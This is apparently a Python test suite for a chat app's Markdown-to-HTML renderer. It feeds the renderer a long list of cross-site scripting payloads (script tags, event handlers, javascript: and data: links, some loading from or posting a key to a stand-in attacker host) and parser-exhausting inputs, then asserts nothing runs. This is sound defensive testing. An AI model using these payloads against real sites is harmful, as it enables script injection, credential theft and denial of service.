"""Test Markdown as HTML: all formatting, and nothing that runs, loads, hides or misleads (SEC)."""

from __future__ import annotations

import asyncio
import time
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rapport.channels.http.rendering.markdown import MAX_FORMATTED_CHARACTERS, render_html, render_plain
from rapport.channels.http.rendering.message_html import MAX_CHARACTERS_PER_REQUEST, Renderer
from rapport.domain.conversation import Message
from tests.support.cases import every_case
from tests.support.growth import least_cpu_seconds, takes_at_most
from tests.support.strict_html import read
from tests.support.world import World

ATTACKS = [
    # HTML as it is
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form action=https://evil.example><input name=key><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a onmouseover=alert(1) href=https://ok.example>x</a>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"position:fixed;inset:0;background:url(https://evil.example)\">x</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<title></title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<p id=app class=source data-panel=chat>clobbered</p>",
    "<img name=cookie><form id=test><input name=attributes>",
    "</p></div></main><h1>Signed out: enter your key</h1>",
    "\"><script>alert(1)</script>",
    "'-alert(1)-'",
    "`${alert(1)}`",
    "{{constructor.constructor('alert(1)')()}}",
    # Markdown that makes HTML
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1))",
    "[x](  javascript:alert(1) \"t\")",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://ok.example/1)",
    "[x](//evil.example)",
    "[x](/api/session)",
    "[x](#source-other)",
    "[x](https://ok.example \"onmouseover=alert(1) x=\")",
    "[x](https://ok.example\"onmouseover=\"alert(1))",
    "[x](https://ok.example' onmouseover='alert(1))",
    "[a](https://ok.example/\"><script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![\"onerror=\"alert(1)](https://evil.example/x)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[![x](https://evil.example/p.gif)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<data:text/html,alert(1)>",
    "<https://ok.example/\"onmouseover=alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: javascript:alert(1) \"t\"",
    "```\"><script>alert(1)</script>\ncode\n```",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "~~~language-x\" onclick=\"alert(1)\nx\n~~~",
    "`<script>alert(1)</script>`",
    "| a | b |\n|---|:-:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "- [x] <script>alert(1)</script>\n- [ ] [y](javascript:alert(1))",
    "> <script>\n> alert(1)\n> </script>",
    "# <img src=x onerror=alert(1)>",
    "1. <svg/onload=alert(1)>",
    "**<b onmouseover=alert(1)>x</b>**",
    "https://ok.example/<script>alert(1)</script>",
    "https://ok.example/\"onmouseover=\"alert(1)",
    "https://ok.example/'><img src=x onerror=alert(1)>",
    "[source: <script>alert(1)</script>]",
    "[source: a\" onclick=\"alert(1)]",
    "[source: notes](javascript:alert(1))",
    "Sources: notes\" onclick=\"alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<script>alert(1)\\</script>",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>".replace("\u0000", "\ufffd"),
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<a href=\"https://ok.example\u2028onmouseover=alert(1)\">x</a>",
    "*" * 300 + "<script>alert(1)</script>",
    "> " * 60 + "<script>alert(1)</script>",
    "<" * 3_000 + "script>alert(1)</script>",
    "|" * 500 + "\n" + "|-" * 250 + "\n<script>alert(1)</script>",
    "x" * MAX_FORMATTED_CHARACTERS + "\n<script>alert(1)</script> [x](javascript:alert(1))",
]  # fmt: skip
each_attack = pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))

DANGEROUS = ("javascript:", "vbscript:", "data:", "blob:", "file:")


def harmless(markup: str) -> None:
    """Check that the strict reader accepts it, and that it links only to web and mail addresses and sources."""
    shown = read(markup)
    assert not any(link.lower().lstrip().startswith(DANGEROUS) for link in shown.links)


def said(text: str, *, sources: tuple[str, ...] = (), role: Any = "assistant") -> Message:
    return Message("01", "02", role, text, datetime.now(UTC), sources=[{"id": one, "text": ""} for one in sources])


# ---- nothing that runs


def test_there_are_enough_attacks() -> None:
    assert len(set(ATTACKS)) == len(ATTACKS) >= 60


@each_attack
def test_an_attack_is_shown_and_does_nothing(attack: str) -> None:
    for text in (
        attack,
        f"Hello **there**\n\n{attack}\n\nbye",
        f"- {attack}",
        f"> {attack}",
        f"| a |\n|-|\n| {attack} |",
    ):
        harmless(render_html(text, sources=("notes", "a")))
        harmless(render_plain(text))


@settings(max_examples=300)
@given(
    st.lists(
        st.one_of(
            st.sampled_from(ATTACKS[:110]),
            st.sampled_from([*"<>\"'`&[]()!*_~|#->\\:/= \n\t", "\n\n", "](", "![", "<!--", "-->", "&#x", "```"]),
            st.text(max_size=8),
        ),
        max_size=12,
    ).map("".join)
)
def test_attacks_put_together_and_cut_apart_do_nothing_either(text: str) -> None:
    harmless(render_html(text, sources=("notes",)))
    harmless(render_html(text[len(text) // 3 :], sources=("notes",)))


@settings(max_examples=150)
@given(st.text(alphabet=st.characters(categories=("L", "N")), min_size=1, max_size=40).map(str.strip))
def test_no_word_is_lost(word: str) -> None:
    for text in (word, f"> {word}", f"* {word}", f"[1]: {word}", "> " * 40 + word, f"<b>{word}</b>", f"a\n\n{word}\nb"):
        assert word in read(render_html(text)).text


class Everywhere:
    """Store an attacker's texts and read them through every route."""

    def __init__(self, world: World) -> None:
        self.world = world
        self.routes: list[str] = []

    async def store(self, attack: str, number: int) -> None:
        world = self.world
        name = attack.replace("\n", " ")[:200]
        group = await world.conversation(kind="group", title=name)
        author = {"id": name, "name": name}
        assert (await world.post(group, attack, author=author)).status_code == 202
        world.model.will_say(attack)
        call = {"content": "@bot ^", "author": author, "context_snapshot": {"author": name, "text": attack}}
        reply = await world.http.post(f"/chat/conversations/{group}/messages", json=call)
        assert reply.status_code == 200, reply.text
        assert (await world.http.patch(f"/api/threads/{group}", json={"title": name})).status_code == 200
        note = await world.http.post("/api/notes", json={"title": name, "text": f"{attack}\nnumber {number}"})
        assert note.status_code == 201, note.text
        await world.sql("UPDATE notes SET file_name = %s WHERE id = %s", f"{name}.html", note.json()["id"])
        await world.sql(
            "INSERT INTO memories (owner_id, agent_id, id, key, content, origin, embedder, embedding)"
            " VALUES ('local', 'companion', %s, %s, %s, 'user', 'none', '[0]')",
            reply.json()["id"],
            f"{number}{name}"[:100],
            attack,
        )
        self.routes += [
            f"/api/threads/{group}/history?render=html",
            f"/api/threads/{group}/messages/{reply.json()['id']}?render=html",
            f"/api/threads/{group}/people",
            f"/api/threads/{group}/context?include=timeline",
            f"/api/notes/{note.json()['id']}",
        ]


async def test_no_stored_text_is_rendered_as_executable_html(world: World) -> None:
    """Texts, names, titles, files and memories are returned unchanged as JSON; where HTML is returned, it is harmless."""
    everywhere = Everywhere(world)
    attacks = [attack for attack in ATTACKS if len(attack) < 2_000][::4]  # each is rendered in the tests above
    assert len(attacks) >= 15
    for number, attack in enumerate(attacks):
        await everywhere.store(attack, number)
    told: list[str] = []
    shown = 0
    for route in (*everywhere.routes, "/api/threads?limit=500", "/api/notes?limit=500", "/api/memories?limit=500"):
        answer = await world.http.get(route)
        assert answer.status_code == 200, route
        assert answer.headers["content-type"] == "application/json"
        told.append(answer.text)
        body = answer.json()
        for message in [*body.get("messages", []), body]:
            if "html" in message:
                harmless(message["html"])
                shown += 1
    assert shown == 4 * len(attacks)  # a conversation has three messages, and one of them is asked for alone too
    history = (await world.http.get(everywhere.routes[0])).json()["messages"]
    assert history[0]["content"] == attacks[0]
    # No page is made of what is stored.
    for route in ("/", "/page/index.html", "/docs"):
        assert "evil.example" not in (await world.http.get(route)).text


# ---- what Markdown is for

TABLE = """\
<table>
<thead>
<tr>
<th class="center">a</th>
</tr>
</thead>
<tbody>
<tr>
<td class="center">1</td>
</tr>
</tbody>
</table>
"""


@every_case(
    ("text", "html"),
    [
        ("two\nlines", "<p>two<br>\nlines</p>\n"),
        ("*a* **b** ~~c~~ `d<e`", "<p><em>a</em> <strong>b</strong> <s>c</s> <code>d&lt;e</code></p>\n"),
        ("# Big\n\n###### Small", "<h3>Big</h3>\n<h6>Small</h6>\n"),
        ("3. c\n4. d", '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>\n'),
        ("```py\nx = 1 < 2\n```", '<pre><code class="language-py">x = 1 &lt; 2\n</code></pre>\n'),
        ("```c++\n;\n```", '<pre><code class="language-c++">;\n</code></pre>\n'),
        ("> said\n\n---", "<blockquote>\n<p>said</p>\n</blockquote>\n<hr>\n"),
        (
            "- [ ] buy *milk*\n- [x] sleep\n- [y] no",
            '<ul>\n<li class="task">☐ buy <em>milk</em></li>\n<li class="task done">☑ sleep</li>\n<li>[y] no</li>\n</ul>\n',
        ),
        ("| a |\n|:-:|\n| 1 |", TABLE),
        ("1 < 2 & 3 > 2 \"so\"", "<p>1 &lt; 2 &amp; 3 &gt; 2 \"so\"</p>\n"),
        ("", ""),
    ],
)  # fmt: skip
def test_markdown_is_shown_as_it_is_meant(text: str, html: str) -> None:
    assert render_html(text) == html
    read(render_html(text))


@every_case(
    ("text", "address", "words"),
    [
        ("[here](https://a.example/b?c=1&d=2)", "https://a.example/b?c=1&d=2", "here"),
        ("see https://a.example/b_c_d.", "https://a.example/b_c_d", "see https://a.example/b_c_d."),
        ("(https://a.example/x_(y))", "https://a.example/x_(y)", "(https://a.example/x_(y))"),
        ("**https://a.example**", "https://a.example", "https://a.example"),
        ("<https://a.example>", "https://a.example", "https://a.example"),
        ("<ann@a.example>", "mailto:ann@a.example", "ann@a.example"),
        ("![a cat](https://a.example/cat.png)", "https://a.example/cat.png", "a cat (https://a.example/cat.png)"),
        ("![](https://a.example/cat.png)", "https://a.example/cat.png", "https://a.example/cat.png"),
        ("[![a cat](https://a.example/c.png)](https://b.example)", "https://b.example", "a cat"),
    ],
)  # fmt: skip
def test_links_lead_where_they_say_and_open_beside_the_page(text: str, address: str, words: str) -> None:
    shown = read(render_html(text))
    assert (shown.links, shown.text.strip()) == ([address], words)
    assert 'target="_blank"' in render_html(text)
    assert "<img" not in render_html(text)


@every_case(
    ("text", "words"),
    [
        ("[here](https://b.example/?q=secret)", "here (https://b.example/?q=secret)"),
        ("[**https://a.example**](https://b.example)", "https://a.example (https://b.example)"),
        ("see https://b.example/x.", "see https://b.example/x."),
        ("<https://b.example>", "https://b.example"),
        ("![a cat](https://b.example/cat.png)", "a cat (https://b.example/cat.png)"),
        ("[![a cat](https://a.example)](https://b.example)", "a cat (https://b.example)"),
        ("[mail](mailto:eve@b.example)", "mail (mailto:eve@b.example)"),
        ("[x](https://a.example/?q=secret)", "x (https://a.example/?q=secret)"),
    ],
)  # fmt: skip
def test_an_address_that_nobody_else_wrote_is_text(text: str, words: str) -> None:
    shown = read(render_html(text, links=["https://a.example"]))
    assert (shown.links, shown.text.strip()) == ([], words)
    assert "b.example" not in "".join(shown.sources)


@every_case(
    ("text", "address"),
    [
        ("[here](https://a.example/ü?b=1&c=%20)", "https://a.example/ü?b=1&c=%20"),
        ("see https://a.example/x, https://b.example", "https://a.example/x"),
        ("![](https://a.example/cat.png)", "https://a.example/cat.png"),
    ],
)
def test_an_address_that_somebody_wrote_is_a_link(text: str, address: str) -> None:
    shown = read(render_html(text, links=[address]))
    assert len(shown.links) == 1
    assert shown.links[0].startswith("https://a.example/")


@every_case("text", ["https://", "http://.", "xhttps", "`https://a.example`", "[x](relative)", "[x](#y)"])
def test_a_malformed_address_is_not_a_link(text: str) -> None:
    assert read(render_html(text)).links == []


@every_case(
    ("text", "sources", "words"),
    [
        ("So it is [source: a].", ["a"], "So it is a."),
        ("So it is [source:a, b ].", ["a", "b"], "So it is ab."),
        ("So [source: a, c] and [source: c].", ["a"], "So a[source: c] and [source: c]."),
        ("`[source: a]`", [], "[source: a]"),
        ("```\n[source: a]\n```", [], "[source: a]"),
        ("[source: A]", [], "[source: A]"),
        ("[Source: a]", [], "[Source: a]"),
        ("said\n\nSources: a, b", ["a", "b"], "said\nSources: a, b"),
        ("said\n\nSources: a, c", [], "said\nSources: a, c"),
        ("Sources: a, b\n\nand more", [], "Sources: a, b\nand more"),
    ],
)
def test_a_citation_is_a_link_where_the_reply_rests_on_it(text: str, sources: list[str], words: str) -> None:
    shown = read(render_html(text, sources=("a", "b")))
    assert (shown.sources, shown.text.strip()) == (sources, words)
    assert shown.links == [f"#source-{one}" for one in sources]
    assert read(render_html(text)).sources == []


# ---- within bounds


def ordinary() -> str:
    return (
        "Here is **what** I found about *refunds* [source: refunds]:\n\n- You have 30 days, see https://a.example/refunds\n"
        "- Keep the `receipt`\n\n```python\ndef wait(days):\n    return days < 30\n```\n\n> Goods are sent back at our cost.\n\n"
        "And that is about all there is to say: nothing else in the notes speaks of it, as far as I can see.\n\n" * 2
    )


HOSTILE = {
    "brackets": "[" * 20_000,
    "links": "[a](" * 5_000,
    "pictures": "![[" * 6_666,
    "stars": "*a_ " * 5_000,
    "ticks": "".join("`" * number + " " for number in range(1, 199)),
    "quotes": ">" * 20_000,
    "lists": "\n".join("  " * level + "* x" for level in range(130)),
    "wide table": "|" + "a|" * 2_000 + "\n|" + "-|" * 2_000 + "\n" + "|x|\n" * 2_000,
    "long table": "|a|b|\n|-|-|\n" + "|x|y|\n" * 3_300,
    "lines": "a\n" * 10_000,
    "paragraphs": "a\n\n" * 6_600,
    "addresses": "https://a " * 2_000,
    "sources": "[source: " + "a, " * 6_000,
    "brackets at the end": "https://a" + ")" * 19_000,
    "entities": "&#x41;" * 3_333,
    "half tags": "<a:" * 6_666,
    "tasks": "- [x] a\n" * 2_500,
    "open links": ('"' + "[a]([”" * 2_000)[:20_000],
    "brackets apart": "--:['" * 4_000,
    "a few brackets": "1.+#a---[" * 2_222,
    "items": "1. a\n" * 4_000,
    "emphasis apart": "---é**]'---" * 1_800,
}


def render_ordinary() -> None:
    render_html(of_length(ordinary(), MAX_FORMATTED_CHARACTERS), sources=("a",))


def of_length(text: str, length: int) -> str:
    return (text * (length // len(text) + 1))[:length]


@every_case("name", HOSTILE)
def test_a_hostile_message_takes_hardly_longer_than_an_ordinary_one(name: str) -> None:
    text = HOSTILE[name]
    markup = render_html(text, sources=("a",))
    assert len(markup) < 40 * len(text)
    harmless(markup)
    usual = least_cpu_seconds(render_ordinary)
    for length in (2_000, 4_000, 8_000, MAX_FORMATTED_CHARACTERS, 32_000):
        cut = of_length(text, length)
        assert takes_at_most(8 * usual, lambda cut=cut: render_html(cut, sources=("a",))), length


async def test_a_page_of_hostile_messages_takes_about_as_long_as_a_few_of_them() -> None:
    usual = least_cpu_seconds(render_ordinary)
    page = [said(f"{number} " + of_length("1.+#a---[", 7_000)) for number in range(40)]
    seconds: list[float] = []
    while not seconds or (min(seconds) > 60 * usual and len(seconds) < 5):
        began = time.process_time()
        shown = await Renderer().views(page)
        seconds.append(time.process_time() - began)
        assert [one["content"] for one in shown] == [one.text for one in page]
    assert min(seconds) <= 60 * usual


def test_what_is_too_long_to_format_is_shown_as_it_stands() -> None:
    text = "**a**\n\nb\nc <d>\n" * 5_000
    assert len(text) > MAX_FORMATTED_CHARACTERS
    shown = read(render_html(text))
    assert set(shown.tags) == {"p", "br"}
    assert shown.text.count("**a**") == shown.text.count("<d>") == 5_000


# ---- made once


async def test_the_same_message_is_made_once_and_no_more_are_kept_than_fit() -> None:
    renderer = Renderer(max_cached=3_000)
    first = await renderer.view(said("**hello**"))
    assert first["html"] == "<p><strong>hello</strong></p>\n"
    assert len(renderer) == 1
    assert await renderer.view(said("**hello**")) | {"created_at": 0} == first | {"created_at": 0}
    assert len(renderer) == 1
    for number in range(50):
        await renderer.view(said(f"{number} " + "word " * 50))
    assert 1 < len(renderer) < 10
    await renderer.view(said("x" * 5_000))  # too large to be kept at all
    assert 1 < len(renderer) < 10
    shown = await renderer.views([said("a"), said("b"), said("a")])
    assert [one["html"] for one in shown] == ["<p>a</p>\n", "<p>b</p>\n", "<p>a</p>\n"]


async def test_what_a_reply_cites_is_part_of_it_and_of_nobody_elses_message() -> None:
    renderer = Renderer()
    text = "So it is [source: a]."
    with_source = (await renderer.view(said(text, sources=("a",))))["html"]
    without = (await renderer.view(said(text)))["html"]
    typed = (await renderer.view(said(text, sources=("a",), role="user")))["html"]
    assert 'data-note="a"' in with_source
    assert without == typed == "<p>So it is [source: a].</p>\n"


async def test_a_page_of_long_messages_formats_the_latest_and_holds_nobody_up() -> None:
    renderer = Renderer()
    page = [said(f"**{number}** " + "*a* word word word " * 900) for number in range(40)]
    assert sum(len(one.text) for one in page) > 2 * MAX_CHARACTERS_PER_REQUEST
    ticks = 0

    async def tick() -> None:
        nonlocal ticks
        while True:
            await asyncio.sleep(0.005)
            ticks += 1

    ticking = asyncio.create_task(tick())
    shown = await renderer.views(page)
    ticking.cancel()
    assert ticks > 5
    assert "<strong>39</strong>" in shown[39]["html"]
    assert "**0**" in shown[0]["html"]
    assert "<em>" not in shown[0]["html"]
